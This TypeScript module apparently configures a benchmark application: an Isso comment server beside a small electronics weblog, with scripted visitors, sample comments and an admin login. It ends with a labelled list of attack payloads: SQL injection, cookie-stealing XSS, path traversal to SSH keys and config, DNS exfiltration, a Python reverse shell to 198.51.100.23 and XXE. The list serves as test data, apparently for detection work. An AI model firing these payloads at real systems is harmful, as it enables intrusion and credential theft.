import type { Application, Place } from "../application.ts";

const settings = ({ port }: Place) => `
[general]
dbpath = comments.db
name = bench
host = http://127.0.0.1:${port}/
notify = stdout
latest-enabled = true
[admin]
enabled = true
password = solder-wick-2
[server]
listen = http://127.0.0.1:${port}/
[guard]
enabled = false
[markup]
renderer = mistune
[rss]
base = http://127.0.0.1:${port}/
`;

/** A weblog of seven articles beside Isso in one process, and a first comment below most of them. */
const serve = `
import html
import sys
from urllib.parse import parse_qs
from isso import config, db, make_app
from werkzeug.middleware.dispatcher import DispatcherMiddleware
from werkzeug.serving import run_simple

articles = {
    "recapping-a-1979-polysynth": ("Recapping a 1979 polysynth", "Forty electrolytics, two lifted pads, and a power supply that hums at 100 Hz."),
    "a-quiet-fan-for-the-scope": ("A quiet fan for the oscilloscope", "The old one moved more noise than air. What I measured before and after."),
    "serial-consoles-that-lie": ("Serial consoles that lie", "9600 8N1 is printed on the lid. It is not what the board speaks."),
    "comments-without-a-cloud": ("Comments without a cloud", "How this weblog got its own comments, on a board that draws four watts."),
    "reading-old-eproms": ("Reading old EPROMs", "A 27C256, a breadboard and twenty lines of C. Cover the window afterwards."),
    "which-flux": ("Which flux?", "No-clean, rosin, water soluble: a table, and my prejudices."),
    "letters-from-readers": ("Letters from readers", "Your corrections of the past year, with thanks."),
}
first = {
    "recapping-a-1979-polysynth": ("Ilse", "Did you keep the tantalums? Mine all measured fine after 40 years."),
    "serial-consoles-that-lie": ("w0bbl3", "Try 7E1 first, always. Half of those boards come from terminals."),
    "comments-without-a-cloud": ("Tomasz", "What do you do about spam?"),
    "reading-old-eproms": ("Old Bench", "Try hexdump -C dump.bin | head and look for the copyright string."),
    "letters-from-readers": ("Chiara", "Grazie! Still reading from Torino."),
}

counts = '<script src="/js/count.min.js" data-isso="/" async></script>'

def page(title, body, script=counts):
    links = "".join(f'<li><a href="/blog/{slug}">{html.escape(name)}</a> <a href="/blog/{slug}#isso-thread">Comments</a></li>' for slug, (name, _) in articles.items())
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{html.escape(title)}</title>
<link rel="alternate" type="application/atom+xml" href="/feed?uri=/blog/letters-from-readers"></head>
<body><h1><a href="/blog/">The warm bench</a></h1>{body}<ul>{links}</ul><p><a href="/blog/search">Search</a></p>
{script}</body></html>"""

def blog(environ, start_response):
    slug = environ["PATH_INFO"].strip("/")
    query = parse_qs(environ.get("QUERY_STRING", "")).get("q", [""])[0]
    status = "200 OK"
    if slug == "":
        text = page("The warm bench", "".join(f'<h2><a href="/blog/{s}">{html.escape(n)}</a></h2><p>{html.escape(t)}</p>' for s, (n, t) in articles.items()))
    elif slug == "search":
        hits = [s for s, (n, t) in articles.items() if query and query.lower() in (n + t).lower()]
        text = page("Search", f'<form action="/blog/search"><input type="search" name="q" value="{html.escape(query)}"><button>Search</button></form><p>{len(hits)} articles</p>' + "".join(f'<p><a href="/blog/{s}">{html.escape(articles[s][0])}</a></p>' for s in hits))
    elif slug in articles:
        name, said = articles[slug]
        text = page(name, f"""<article><h2>{html.escape(name)}</h2><p>{html.escape(said)}</p></article>
<script src="/js/embed.min.js" data-isso="/" data-isso-reply-to-self="true" data-isso-vote="true" data-isso-max-comments-top="5" data-isso-max-comments-nested="3"></script>
<section id="isso-thread" data-title="{html.escape(name)}"></section>""", "")
    else:
        status, text = "404 Not Found", page("Not found", "<p>No such article.</p>")
    if "admin-session=" in environ.get("HTTP_COOKIE", ""):
        text = text.replace("</ul>", '<li><a href="/admin/?mode=1">Moderate</a></li></ul>')
    start_response(status, [("Content-Type", "text/html; charset=utf-8")])
    return [text.encode()]

conf = config.load(config.default_file(), "isso.cfg")
store = db.SQLite3(conf.get("general", "dbpath"), conf)
for slug, (author, said) in first.items():
    store.threads.new(f"/blog/{slug}", articles[slug][0])
    store.comments.add(f"/blog/{slug}", {"author": author, "text": said, "mode": 1, "remote_addr": "198.51.100.0"})
comments = make_app(conf)
run_simple("127.0.0.1", int(sys.argv[1]), DispatcherMiddleware(comments, {"/blog": blog}), threaded=True)
`;

let visits = 0;

/** Comments below the articles of a weblog; its visitors read, comment, answer, and one in three moderates. */
export const isso: Application = {
  name: "isso",
  packages: { pip: ["isso==0.14.0", "Werkzeug==3.1.9"] },
  files: (at) => ({ "isso.cfg": settings(at), "serve.py": serve }),
  start: ({ port }) => ["python3", "serve.py", String(port)],
  ready: "/blog/",
  async enter(page, origin) {
    // Who comments has no account; only the owner of the weblog signs in.
    if (visits++ % 3 !== 0) return;
    await page.goto(`${origin}/admin/`);
    await page.locator("input[name=password]").fill("solder-wick-2");
    await page.keyboard.press("Enter");
    await page.locator("#isso-root").waitFor({ state: "attached" });
  },
  pages: [
    "/blog/",
    "/blog/recapping-a-1979-polysynth",
    "/blog/a-quiet-fan-for-the-scope",
    "/blog/serial-consoles-that-lie",
    "/blog/comments-without-a-cloud",
    "/blog/reading-old-eproms",
    "/blog/which-flux",
    "/blog/letters-from-readers",
    "/blog/search",
    "/blog/search?q=rosin",
  ],
  texts: {
    searches: [
      "polysynth",
      "EPROM",
      "27C256",
      "flux",
      "no-clean",
      "oscilloscope fan",
      "9600 8N1",
      "what's a tantalum",
      "100 Hz hum",
      "cloud",
      "breadboard & wires",
      "rosin",
      "±12 V",
      "Lötzinn",
      "condensateur",
      "7E1",
      "isso",
      "four watts",
      '"lifted pads"',
      "hexdump -C",
      "µF",
      "C:\\TOOLS\\BURN.EXE",
      "/dev/ttyUSB0",
      "50% duty",
      "はんだ",
      "letters",
      "электролит",
    ],
    lines: [
      "Ilse",
      "Old Bench",
      "w0bbl3",
      "Seán O'Dowd",
      "Anna-Lena",
      "K5-something",
      "Dr. Strangesolder",
      "Chiara (Torino)",
      "r2d2_repair",
      "Jean-François",
      "田中",
      "Юрий",
      "nobody in particular",
      '"Sparky"',
      "me again ;)",
      "M. d'Aubigny",
      "The Fan Guy",
      "tom@bench",
      "Łukasz",
      "just a reader",
      "PH-33",
      "Ωmega",
      "Mrs Miller's son",
      "<3 tubes",
      "retro & co.",
      "André 🛠️",
    ],
    long: [
      "Great write-up, thanks! One question: didn't the 470 µF caps in the ±12 V rail need replacing too? Mine were at 60% of the printed value.",
      "I don't agree with the part about no-clean flux; it's conductive enough to matter above 1 MΩ (I measured it; 23 °C, 45% r.h.).",
      "This worked for me:\n\n```\nstty -F /dev/ttyUSB0 9600 cs7 parenb -parodd\nscreen /dev/ttyUSB0 9600,cs7\n```\n\nNote that `cs8` gives you garbage, as you said.",
      "> Forty electrolytics\n\nForty-two, if you count the two below the keyboard. *Ask me how I know.*",
      "Danke für den Artikel! Bei mir hat's erst nach dem Tausch von C14 & C15 funktioniert – vorher brummte es mit 50 Hz.",
      "for (i = 0; i < 32768; i++) { set_address(i); buf[i] = read_port(); }\n\nThat's all there is to it. You need a delay of > 250 ns between the two, though; with `-O2` the compiler eats it.",
      'Typo in paragraph 3: "it\'s" should be "its". Feel free to delete this comment afterwards ;-)',
      "Merci ! J'ai le même modèle, et l'alimentation « ronfle » aussi. Où as-tu trouvé les condensateurs ?",
      "What about spam, really? I get 200 a day at /wp-comments-post.php, and I don't even run WordPress: 'GET /wp-login.php HTTP/1.1' 404, all night long.",
      "The formula is f = 1 / (2π·√(L·C)), so halving C gives you ×1.41, not ×2. Otherwise: spot on!",
      "See also https://example.org/scopes/465b?page=2#fans and the (very long) thread there.\n\n- quieter: 12 dB(A)\n- slower: 800 rpm at 7 V\n- warmer: +4 K, which is fine",
      "Same here!! 😀 First try, after *three* evenings. You've saved a 45-year-old synth from the skip.",
      "If your programmer says `Error: device ID mismatch (expected 0x8C29, got 0xFFFF)`, the chip's not seated. Or it's dead; or it's a mask ROM.",
      "私も同じ機種を直しています。電源のコンデンサは全部交換しましたか？ありがとうございます！",
      'I moved my comments over with\n\n    sqlite3 comments.db "SELECT author, text FROM comments WHERE mode = 1;"\n\nand a bit of sed. Took ten minutes; the import from the old cloud thing took two days.',
      "My config, since somebody asked:\n\n[general]\ndbpath = /var/lib/isso/comments.db\nhost = https://example.org/\n[guard]\nratelimit = 2\nThat's it. nginx does the rest (`proxy_pass http://127.0.0.1:8080;`).",
      "Спасибо за статью! У меня на плате 6800 мкФ × 25 В — стоит менять, если ESR < 0,1 Ом?",
      "<nitpick>It isn't a \"polysynth\", it's a string machine with a filter.</nitpick> Lovely pictures, though.",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "ilse' AND (SELECT 4417 FROM (SELECT(SLEEP(5)))kQzR)-- vLdy" },
    { class: "sql_injection", payload: "/blog/which-flux' UNION ALL SELECT 1,key,value,4,5,6,7 FROM preferences-- -" },
    {
      class: "sql_injection",
      payload: "nice'),(1,99,null,0,0,1,'x',(select value from preferences limit 1),'a','b','c')--",
    },
    {
      class: "sql_injection",
      payload: "1) AND 8123=(SELECT COUNT(*) FROM sqlite_master AS A,sqlite_master AS B,sqlite_master AS C)-- a",
    },
    { class: "sql_injection", payload: "';UPDATE comments SET mode=1,author='owner' WHERE id>0;--" },
    {
      class: "sql_injection",
      payload: "x%' AND hex(substr((SELECT remote_addr FROM comments LIMIT 1),1,1))>'30' AND '%'='",
    },
    {
      class: "xss",
      payload: "Lovely article! <img src=/x.png onerror=\"new Image().src='//198.51.100.23/c?'+document.cookie\">",
    },
    { class: "xss", payload: "[schematics](javascript:eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ==')))" },
    { class: "xss", payload: "</textarea><details open ontoggle=prompt(document.domain)>" },
    { class: "xss", payload: "me'\"()&%<zzz><ScRiPt >window['al'+'ert'](9571)</ScRiPt>" },
    {
      class: "xss",
      payload:
        "<math><mtext><table><mglyph><style><img src=x onerror=import('//x.example.net/h.js')></style></mglyph></table></mtext></math>",
    },
    { class: "path_traversal", payload: "/js/../../../../../../../var/lib/isso/comments.db" },
    { class: "path_traversal", payload: "..%252f..%252f..%252f..%252fetc%252fisso.cfg" },
    { class: "path_traversal", payload: "/blog/..;/..;/..;/..;/root/.ssh/id_ed25519" },
    { class: "path_traversal", payload: "php://filter/convert.base64-encode/resource=../../isso.cfg" },
    { class: "command_injection", payload: 'Ilse";nslookup $(whoami).c8f1.oast.example;#' },
    { class: "command_injection", payload: "{{cycler.__init__.__globals__.os.popen('cat /etc/isso.cfg').read()}}" },
    {
      class: "command_injection",
      payload:
        'me&&python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.23",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")\'',
    },
    { class: "command_injection", payload: `w0bbl3%0a/bin/sleep\${IFS}12%0a` },
    {
      class: "xxe",
      payload:
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE disqus [<!ENTITY % dtd SYSTEM "http://198.51.100.23/d.dtd">%dtd;]><disqus><thread>&all;</thread></disqus>',
    },
  ],
};
